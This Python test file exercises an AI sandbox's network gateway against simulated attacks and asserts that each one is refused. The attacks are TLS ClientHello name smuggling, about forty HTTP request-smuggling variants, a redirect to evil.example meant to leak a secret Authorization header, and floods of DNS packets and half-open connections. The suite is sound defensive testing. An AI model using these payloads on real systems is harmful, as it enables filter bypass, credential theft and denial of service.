#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks on the gateway itself, siblings of A106 to A112: TLS, requests, ports, floods; against a small internet of this suite's own (tests/lib/attacknet.py)."""
import json
import os
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import attacknet
import internet
from aisbxtest import PLAIN_ID, Suite
from attacknet import SEEN, A, Place, enter, inside, is_gone, outside
from box import patience, slow
from family import kib_of
from internet import EVIL, GOOD, PRELUDE

enter()
suite = Suite("network-gateway", needs_attack=False)
# Names that TLS servers were asked for, and how often each of them was.
TLS_NAMES = []
TLS_PORT, AGAIN_PORT, ODD_PORT = 4443, 4444, 8001


def tls_context(curve=None):
    files = [f"{Place.path}/{name}.pem" for name in ("cert", "key")]
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(*files)
    if curve:
        context.set_ecdh_curve(curve)
    context.sni_callback = lambda _socket, name, _context: TLS_NAMES.append(name)
    return context


def serve_tls(context):
    def handle(peer, _):
        peer.settimeout(120)
        with context.wrap_socket(peer, server_side=True) as tls:
            tls.sendall(b"secret " + tls.recv(100))
    return handle


def redirect(peer, address):
    """Sends whoever comes to evil.example, and keeps what was asked."""
    peer.settimeout(120)
    SEEN.append(peer.recv(65536))
    peer.sendall(b"HTTP/1.1 302 Found\r\nLocation: http://evil.example:8000/stolen\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


def begin():
    internet.NAMES["front.example"] = GOOD
    attacknet.begin()
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", f"{Place.path}/key.pem", "-out",
                    f"{Place.path}/cert.pem", "-days", "2", "-subj", "/CN=test"], check=True, capture_output=True)
    internet.listen(GOOD, TLS_PORT, serve_tls(tls_context()))
    internet.listen(GOOD, AGAIN_PORT, serve_tls(tls_context("secp384r1")))
    internet.listen(GOOD, ODD_PORT, redirect)


TLS = f"""
def client(name):
    context = ssl._create_unverified_context()
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(into, out, server_hostname=name)
    def step():
        try: tls.do_handshake()
        except ssl.SSLWantReadError: pass
        return out.read()
    return step, into
def kind(data):
    return 'nothing' if not data else {{0x15: 'alert'}}.get(data[0], 'answered')
def first(front, name):
    'Something in front of a hello, and a hello for another name.'
    try:
        with socket.create_connection(('good.example', {TLS_PORT}), 60) as s:
            s.settimeout(60); s.sendall(front + client(name)[0]()); return kind(s.recv(65536))
    except OSError as e: return type(e).__name__
def second(name, in_advance=False, between=b'', pieces=1):
    'A server that wants a second hello gets one for another name.'
    try:
        with socket.create_connection(('good.example', {AGAIN_PORT}), 60) as s:
            s.settimeout(60)
            step, into = client('good.example')
            hello = step(); s.sendall(hello); into.write(s.recv(65536))
            again = between + step().replace(b'good.example', name.encode())
            if not in_advance:
                for at in range(0, len(again), max(1, len(again) // pieces)): s.sendall(again[at:at + max(1, len(again) // pieces)])
                return kind(s.recv(65536))
        with socket.create_connection(('good.example', {AGAIN_PORT}), 60) as s:
            s.settimeout(60); s.sendall(hello + again); s.shutdown(socket.SHUT_WR)
            got = b''
            while part := s.recv(65536): got += part
            return 'answered' if len(got) > 200 else kind(got[:0])
    except OSError as e: return type(e).__name__
def whole(port):
    try:
        with socket.create_connection(('good.example', port), 60) as s, ssl._create_unverified_context().wrap_socket(s, server_hostname='good.example') as t:
            t.sendall(b'it'); return t.recv(100).decode().replace(' ', '-')
    except OSError as e: return type(e).__name__
"""
T = ["--allow", f"good.example:{TLS_PORT}-{AGAIN_PORT}"]
SECOND = TLS + "print(second('evil.example'), second('evil.example', in_advance=True), second('evil.example', pieces=7)," \
               "second('evil.example', between=b'\\x15\\3\\3\\0\\2\\1\\x5a'), second('evil.example', between=b'\\x17\\3\\3\\0\\4xxxx'))"


def second_control(t):
    TLS_NAMES.clear()
    words = outside(SECOND)
    t.ok(words[:3] == ["answered"] * 3 and TLS_NAMES.count("evil.example") >= 3, "a server takes the second name for the right one", (words, TLS_NAMES))


@suite.case("A106", "a second ClientHello for another name", second_control)
def second_hello(t):
    TLS_NAMES.clear()
    result = inside(t, SECOND, *T)
    t.ok(len(result.words) == 5 and "answered" not in result.words, "none is answered", result)
    t.ok(set(TLS_NAMES) == {"good.example"}, "none has reached the server", TLS_NAMES)
    t.ok(any(f"evil.example:{AGAIN_PORT}" in what for what in result.told), "and it is told", result.told)
    TLS_NAMES.clear()
    result = inside(t, TLS + f"print(second('good.example'), second('good.example', pieces=9), whole({AGAIN_PORT}), whole({TLS_PORT}))", *T)
    t.equal(result.words, ["answered", "answered", "secret-it", "secret-it"], f"an honest one works: {result}")


FRONTS = TLS + "print(*[first(front, 'evil.example') for front in (b'', b'\\x15\\3\\1\\0\\2\\1\\x5a', b'\\x14\\3\\3\\0\\1\\1', b'\\x17\\3\\3\\0\\1x', " \
               "b'\\x16\\3\\1\\0\\0', b'\\x80\\x1c\\1\\3\\1\\0\\3\\0\\0\\0\\x10\\0\\0\\x2f' + b'x' * 16)])"


@suite.case("A106b", "a ClientHello in disguise", lambda t: t.ok(outside(FRONTS)[0] == "answered" and "evil.example" in TLS_NAMES,
                                                              "a hello for evil is answered outside", TLS_NAMES))
def disguised(t):
    TLS_NAMES.clear()
    result = inside(t, FRONTS, *T)
    t.equal(result.words, ["ConnectionResetError"] * 6, f"each is reset: {result}")
    t.ok(not TLS_NAMES, "and none has reached the server", TLS_NAMES)


HTTP = r"""
def talk(*parts):
    with socket.create_connection(('good.example', 8000), 60) as s:
        s.settimeout(60); data = b''
        try:
            for part in parts: s.sendall(part)
            s.shutdown(socket.SHUT_WR)
            while got := s.recv(65536): data += got
        except OSError: pass
    return data.split()[1].decode() if data else 'nothing'
R = b'GET /smuggled HTTP/1.1\r\nHost: good.example\r\n\r\n'
def post(*headers, body=R): return b'POST /open HTTP/1.1\r\nHost: good.example\r\n' + b''.join(h + b'\r\n' for h in headers) + b'\r\n' + body
def get_(line=b'GET /smuggled HTTP/1.1', host=b'Host: good.example', *more): return b'\r\n'.join([line, host, *more, b'', b''])
"""
SMUGGLED = HTTP + r"""
C = b'Transfer-Encoding: chunked'
for text in (post(b'Content-Length: 0', b'Content-Length: 48'), post(b'Content-Length: 0, 48'), post(b'Content-Length: +48'), post(b'Content-Length: 0x30'),
             post(b'Content-Length : 48'), post(b'Content-Length: 48', C), post(b'Transfer-Encoding: identity'), post(b'Transfer-Encoding:\x0bchunked'),
             post(b'Transfer-Encoding: chunked, identity'), post(b'Transfer-Encoding: xchunked'), post(C, C), post(b'X: y\n' + C), post(b'X: y\r' + C),
             post(b' ' + C), post(b'\0: y'), post(C, body=b'0\n\n' + R), post(C, body=b'1;x=\n\r\na\r\n0\r\n\r\n' + R), post(C, body=b'-1\r\n' + R),
             post(C, body=b'0\r\nX: y\r\n\r\n' + R), post(C, body=b'ffffffffffffffff1\r\n' + R), b'GET /smuggled\r\n\r\n', b'\r\n\r\n' + R,
             get_(b'GET /smuggled HTTP/2.0'), b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', get_(b'GET http://x@good.example/smuggled HTTP/1.1'),
             get_(b'GET http://good.example:80/smuggled HTTP/1.1'), get_(b'GET https://good.example/smuggled HTTP/1.1'),
             get_(b'GET //evil.example/smuggled HTTP/1.1', b'Host: evil.example'), get_(host=b'Host: good.example:8001'), get_(host=b'Host: x@good.example'),
             get_(host=b'Host: good.example, evil.example'), get_(host=b'Host: good.example/evil'), get_(host=b'Host:'), get_(host=b'X: y'),
             get_(b'GET /smuggled HTTP/1.1 HTTP/1.1'), get_(b'GET\t/smuggled\tHTTP/1.1'), get_(b'GET /open/../smuggled HTTP/1.1'),
             get_(b'GET /open/%2e%2e/smuggled HTTP/1.1'), get_(b'GET /open\\..\\smuggled HTTP/1.1'), get_(b'CONNECT good.example:8000 HTTP/1.1', b'Host: good.example:8000')):
    print(talk(text))
"""


@suite.case("A108b", "requests hidden in requests", lambda t: t.ok(
    outside(SMUGGLED) and sum(b"smuggled" in part for part in SEEN) > 20, "outside a server gets them", len(SEEN)))
def smuggled(t):
    SEEN.clear()
    result = inside(t, SMUGGLED, "--allow", "http:good.example:8000/open", timeout=60)
    t.ok(not any(b"smuggled" in part or b"evil" in part for part in SEEN), "none has reached the server", SEEN)
    t.ok(len(result.words) == 40 and result.words.count("200") <= 6, "each is refused, or ends behind its head", result.words)
    SEEN.clear()
    result = inside(t, HTTP + r"print(talk(get_(b'GET /open HTTP/1.1', b'Host: good.example', b'Connection: Upgrade, HTTP2-Settings', b'Upgrade: h2c',"
                    r"b'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA')), talk(get_(b'GET /open HTTP/1.1', b'Host: GOOD.example.:8000')),"
                    r"talk(get_(b'GET /open HTTP/1.1') + get_(b'GET /open/2 HTTP/1.1') + get_(b'GET /shut HTTP/1.1')))", "--allow", "http:good.example:8000/open")
    t.ok(result.words == ["200", "200", "200"] and not any(b"h2c" in part or b"/shut" in part for part in SEEN)
         and any(b"/open/2" in part for part in SEEN), "other protocols are not begun; a third request is judged as the first", (result.words, SEEN))


KEY = "c4nary-of-the-gateway"


@suite.case("A108c", "a header added outside goes nowhere else", "outside nobody adds one")
def secret_header(t):
    token = t.caller.put("token", KEY + "\n", 0o600)
    flags = ["--allow", f"good.example:8000-{ODD_PORT}", "--allow", f"front.example:8000-{ODD_PORT}", "--allow", f"evil.example:8000-{ODD_PORT}",
             "--secret-header", f"good.example:Authorization={token}"]
    script = HTTP + f"""
import urllib.request, urllib.error
try: urllib.request.urlopen('http://good.example:{ODD_PORT}/go', timeout=60).read()
except OSError as e: pass
socket.getaddrinfo('front.example', 8000)
def one(to, *parts):
    with socket.create_connection((to, 8000), 60) as s:
        s.settimeout(60); data = b''
        try:
            for part in parts:
                s.sendall(part); data += s.recv(65536)
        except OSError: pass
    return ' '.join(line.split()[1].decode() for line in data.split(b'\\r\\n') if line.startswith(b'HTTP/'))
def ask(host, path): return get_(b'GET ' + path + b' HTTP/1.1', b'Host: ' + host)
print(one('good.example', ask(b'good.example', b'/mine'), ask(b'front.example', b'/front'), ask(b'good.example', b'/mine2')),
      one('evil.example', ask(b'good.example', b'/steal')), one('evil.example', ask(b'evil.example', b'/evil')),
      one('good.example', ask(b'good.example', b'/mine3')[:-2] + b'Connection: Authorization, close\\r\\n\\r\\n'),
      one('good.example', get_(b'TRACE /trace HTTP/1.1')), one('front.example', get_(b'GET http://good.example:8000/abs HTTP/1.1', b'Host: front.example')))
"""
    SEEN.clear()
    result = inside(t, script, *flags)
    with_key = b"\n".join(part for part in SEEN if KEY.encode() in part)
    without = b"\n".join(part for part in SEEN if KEY.encode() not in part)
    t.ok(b"/mine" in with_key and b"/mine2" in with_key and b"/go" in with_key, "the server it is for gets it", (result.words, result.err, SEEN))
    t.ok(b"/stolen" in without and b"/front" in without and b"/evil" in without, "others, behind a redirect or on the same connection, do not", SEEN)
    t.ok(not any(path in with_key + without for path in (b"/steal", b"/trace", b"/abs")), "what would carry it off is refused", SEEN)
    t.ok(KEY not in result.out and KEY not in json.dumps(result.json), "no record has it", result)
    shown = subprocess.run([t.caller.program, "history", "--json", "-n", "1"], env=t.caller.env, cwd=t.caller.workspace, capture_output=True,
                           text=True, check=False, **t.caller.identity())
    t.ok(KEY not in shown.stdout + shown.stderr, "nor has the history", shown.stdout[-300:])


@suite.case("A112b", "a published port is what it says and no more", lambda t: t.ok(
    socket.create_server(("127.0.0.1", 18111)).close() is None, "the port is free"))
def published(t):
    serve = "s = socket.create_server(('127.0.0.1', 5000)); print('up', flush=True)\nwhile True:\n  k = s.accept()[0]; k.sendall(b'inside'); k.close()"
    child = t.box.popen(["python3", "-c", PRELUDE + serve], flags=["--publish", "18111:5000"], as_json=False)
    try:
        child.stdout.readline()
        reached = []
        for address in ("127.0.0.1", GOOD, "::1"):
            try:
                with socket.create_connection((address, 18111), 60) as peer:
                    reached.append((address, peer.recv(100)))
            except OSError:
                continue
        t.equal(reached, [("127.0.0.1", b"inside")], "on the loopback only")
        taken = t.box.run("true", flags=["--publish", "18111:5001"])
        t.ok(taken.code == 125 and "18111" in taken.json["message"], "a second one of the same number is refused", taken)
    finally:
        child.kill()
        child.communicate()
    with socket.create_server(("127.0.0.1", 18112)):
        squatted = t.box.run("true", flags=["--publish", "18112:5000"])
        t.ok(squatted.code == 125 and "18112" in squatted.json["message"], "a port of somebody else is refused before anything runs", squatted)
    low = t.box.run("true", flags=["--publish", "81:5000"])
    t.ok(low.code == (0 if t.caller.name == "root" else 125), "a low one is for root alone", low)
    for bad in ("0:80", "80:0", "70000:80", "8080", "8080:80:90", "127.0.0.1:8080:80", "0x50:80", "-1:80", "8080:80 "):
        done = t.box.run("true", flags=["--publish", bad])
        t.equal(done.code, 125, f"no pair of ports: {bad!r}")


@suite.case("A112c", "the door to a run's rules is its user's", "the door is ours; outside there is none")
def door(t):
    live = f"{t.caller.home}/.local/state/aisbx/live"

    def doors():
        return {name for name in (os.listdir(live) if os.path.isdir(live) else []) if name[0] == "."}

    # Of runs that were killed, until somebody looks.
    before = doors()
    child = t.box.popen(["python3", "-c", "import sys; sys.stdin.read()"], flags=A, as_json=False, stdin=subprocess.PIPE)
    found = []
    try:
        is_gone(lambda: not doors() - before)
        found = sorted(doors() - before)
        t.ok(found, "it is there while the run lives", found)
        script = f"import socket; s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET); s.connect('{live}/{found[0]}')"
        python = shutil.which("python3", path="/usr/local/bin:/usr/bin:/bin") or sys.executable
        done = subprocess.run([python, "-c", script], user=PLAIN_ID + 1, group=PLAIN_ID + 1, extra_groups=[], capture_output=True,
                              text=True, check=False)
        t.ok("PermissionError" in done.stderr, "another user cannot reach it", done.stderr[-200:])
        seen = inside(t, f"import os\nprint(os.path.exists('{live}'))", *A)
        t.equal(seen.words, ["False"], "nor does anybody inside see it")
    finally:
        child.communicate(b"")
    t.ok(is_gone(lambda: os.path.exists(f"{live}/{found[0]}")), "and it is gone with the run", found)


@suite.case("A111b", "the gateway is killed", "outside there is none")
def killed(t):
    script = "import time\nprint(get('good.example'), flush=True)\nwhile True:\n  print(get('good.example'), flush=True); time.sleep(.05)"
    child = t.box.popen(["python3", "-uc", PRELUDE + script], flags=A)
    try:
        end = time.monotonic() + patience(30)
        while not internet.gateway_of(child.pid) and time.monotonic() < end:
            time.sleep(0.02)
        before = len(internet.hits)
        is_gone(lambda: len(internet.hits) <= before)
        gateway = internet.gateway_of(child.pid)
        # For 0 is everybody of our own group.
        t.ok(gateway, "there is one", child.poll())
        os.kill(gateway, signal.SIGKILL)
        out = child.communicate(timeout=patience(30))
    finally:
        child.kill()
    t.ok(child.returncode == 125 and b"gateway is gone" in (out[0] if isinstance(out[0], bytes) else out[0].encode())
         + (out[1] if isinstance(out[1], bytes) else out[1].encode()), "the run ends with it, and says why", (child.returncode, out))


FLOOD = f"""
import resource, time
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
address = socket.gethostbyname('good.example')
# Names, peers, refused places: each many more than there is room for; nobody reads an answer.
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.setblocking(False)
for i in range(20000):
    try: u.sendto(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x08' + b'%08d' % i + b'\\7example\\0\\0\\1\\0\\1', ('192.0.2.1', 53))
    except OSError: pass
many = []
for i in range(600):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False); many.append(s)
    try: s.sendto(b'x', (address, 9000))
    except OSError: pass
clients = []
for i in range(200):
    s = socket.socket(); s.setblocking(False); clients.append(s)
    try: s.connect(('192.0.2.1', 53))
    except BlockingIOError: pass
for s in clients:
    try: s.send(b'\\0')
    except OSError: pass
for i in range(3000):
    s = socket.socket(); s.setblocking(False)
    try: s.connect(('{EVIL}', 80))
    except OSError: pass
    s.close()
held = []
for i in range(1500):
    s = socket.socket(); s.setblocking(False); held.append(s)
    try: s.connect((address, 8000))
    except OSError: pass
for s in held:
    try: s.send(b'GET / HT')
    except OSError: pass
for s in many + clients + held: s.close()
end = time.monotonic() + {int(patience(60))}
while get(address) != '{GOOD}' and time.monotonic() < end: time.sleep(.2)
print(get(address))
"""


@suite.case("A111c", "floods of names, peers, half requests and refused places", "bounds of ours, not of the kernel's")
def floods(t):
    child = t.box.popen(["python3", "-c", PRELUDE + FLOOD], flags=[*A, "--allow", "udp:good.example:9000", "--allow", "http:good.example:8000",
                                                                    "--nofile", "8192", "--time", f"{int(patience(100))}s"])
    largest = {"gateway": 0, "supervisor": 0}
    end = time.monotonic() + patience(120)
    while child.poll() is None and time.monotonic() < end:
        pid = internet.gateway_of(child.pid)
        for name, who in (("gateway", pid), ("supervisor", child.pid)):
            largest[name] = max(largest[name], kib_of(who) or 0)
        time.sleep(0.05)
    out = child.communicate()[0]
    told = json.loads(out)
    t.ok(told["stdout"].split() == [GOOD], "life goes on behind them", (told["stdout"], told["stderr"][-300:], told["status"]))
    # What a sanitizer keeps beside is its own.
    most = (64 << 10, 64 << 10) if slow() else (24 << 10, 8 << 10)
    t.ok(largest["gateway"] <= most[0] and largest["supervisor"] <= most[1], f"both stay small: {largest}", largest)
    t.ok(len(told["denials"]) <= 101, "so many denials and no more", len(told["denials"]))


threading.excepthook = lambda *_: None
begin()
suite.main()
